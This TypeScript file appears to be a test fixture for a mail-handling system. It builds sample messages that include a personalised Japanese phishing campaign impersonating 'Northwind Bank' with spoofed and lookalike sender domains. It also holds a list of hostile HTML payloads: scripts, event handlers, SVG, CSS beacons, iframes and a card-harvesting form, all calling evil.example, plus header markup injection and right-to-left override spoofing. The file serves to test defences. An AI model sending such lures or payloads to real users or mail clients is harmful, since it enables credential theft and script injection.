import type { Posted } from './send.ts';

const RECIPIENT = 'desk@ours.example';

/** A message in a few lines; header lines may hold anything. */
export function mail(
  headers: readonly string[],
  html: string,
  difference: Partial<Omit<Posted, 'raw'>> = {},
): Posted {
  const raw = [...headers, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '', html].join(
    '\r\n',
  );
  return {
    raw,
    mailFrom: 'bounce@stranger.example',
    recipients: [RECIPIENT],
    clientIp: '203.0.113.9',
    ...difference,
  };
}

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
const SPOOF = 'From: "Northwind Bank" <service@northwind-bank.example>';
const LURE =
  '<table width="100%" bgcolor="#0b5394"><tr><td style="color:#ffffff;padding:16px;font-size:20px">Northwind Bank</td></tr></table>' +
  '<p>お客様の口座が一時的に停止されました。24時間以内にご本人確認をお願いいたします。</p>' +
  '<p><a href="https://northwind-bank.stranger.example/login" style="color:#0b5394">ご本人確認はこちら / Verify your account</a></p>' +
  '<img src="https://stranger.example/logo.png" alt="Northwind Bank">';

/** One campaign of three, personalised. */
export const CAMPAIGN: readonly Posted[] = ['Sato Hanako', 'Suzuki Ichiro', 'Tanaka Yui'].map((name, index) =>
  mail(
    [
      SPOOF,
      `To: ${RECIPIENT}`,
      `Subject: ${encoded(`${name}様 重要:口座の利用を停止しました`)}`,
      `Message-ID: <c${index}@stranger.example>`,
    ],
    `<p>${name}様</p>${LURE}`,
    { recipients: [`customer${index + 1}@ours.example`] },
  ),
);

/** What else is on the desk. */
export const OTHERS: readonly Posted[] = [
  mail(
    [
      `From: ${encoded('ノースウィンド銀行')} <info@parcel-news.example>`,
      `To: ${RECIPIENT}`,
      `Subject: ${encoded('【至急】不正アクセスの検知について')}`,
    ],
    LURE,
  ),
  mail(
    [
      'From: "Northwind Bank" <support@xn--nrthwind-bank-i7k.example>',
      `To: ${RECIPIENT}`,
      'Subject: Your monthly statement is ready',
    ],
    LURE,
  ),
  mail(
    [`From: "Mina Okada" <mina@customer.example>`, `To: ${RECIPIENT}`, 'Subject: Lunch on Friday?'],
    '<p>See you at noon.</p>',
    {
      mailFrom: 'mina@customer.example',
      clientIp: '192.0.2.20',
    },
  ),
];

/** Bodies and headers that want to run, load, navigate or break the page. Each is marked with where it would call. */
export const HOSTILE: readonly (readonly [title: string, posted: Posted])[] = [
  [
    'scripts',
    mail(
      [SPOOF, 'Subject: hostile scripts'],
      '<script>fetch("//evil.example/script");window.top.hacked=1</script><p onclick="x" onmouseover="fetch(\'//evil.example/over\')">hover</p><a href="javascript:window.top.hacked=1">go</a><img src=x onerror="window.top.hacked=1">',
    ),
  ],
  [
    'SVG',
    mail(
      [SPOOF, 'Subject: hostile svg'],
      '<svg onload="window.top.hacked=1"><image href="https://evil.example/svg"/><script>window.top.hacked=1</script><use href="https://evil.example/use#a"/></svg><math><mtext><img src="https://evil.example/math"></mtext></math>',
    ),
  ],
  [
    'CSS',
    mail(
      [SPOOF, 'Subject: hostile css'],
      '<style>@import url(https://evil.example/import);@font-face{font-family:x;src:url(https://evil.example/font)}body{background:url(https://evil.example/bg);font-family:x}</style><link rel="stylesheet" href="https://evil.example/link"><p style="position:fixed;inset:0;background:url(https://evil.example/style);z-index:9999">cover</p>',
    ),
  ],
  [
    'base and refresh',
    mail(
      [SPOOF, 'Subject: hostile base'],
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
    ),
  ],
  [
    'forms',
    mail(
      [SPOOF, 'Subject: hostile form'],
      '<form action="https://evil.example/form" method="post"><input name="card" autofocus><button formaction="https://evil.example/button">Pay</button></form><isindex action="https://evil.example/isindex">',
    ),
  ],
  [
    'pictures',
    mail(
      [SPOOF, 'Subject: hostile pictures'],
      '<img src="https://evil.example/img" srcset="https://evil.example/set 2x"><picture><source srcset="https://evil.example/source"></picture><img src="cid:logo"><video poster="https://evil.example/poster" src="https://evil.example/video" autoplay></video><body background="https://evil.example/body">',
    ),
  ],
  [
    'markup in From',
    mail(
      [
        `From: ${encoded('<img src=x onerror=window.hacked=1>"><script>window.hacked=1</script>')} <service@northwind-bank.example>`,
        `Subject: ${encoded('hostile </title><script>window.hacked=1</script> {{7*7}}')}`,
      ],
      '<p>x</p>',
    ),
  ],
  [
    'bidi and control characters',
    mail(
      [
        `From: ${encoded('Northwind \u202egnp.exe\u202c Bank\u0007\u0000')} <service@northwind-bank.example>`,
        `Subject: ${encoded(`hostile \u202eevitceles\u202c \u200b\u0008 ${'W'.repeat(300)}`)}`,
      ],
      `<p>\u202e${'x'.repeat(5000)}</p>`,
    ),
  ],
];
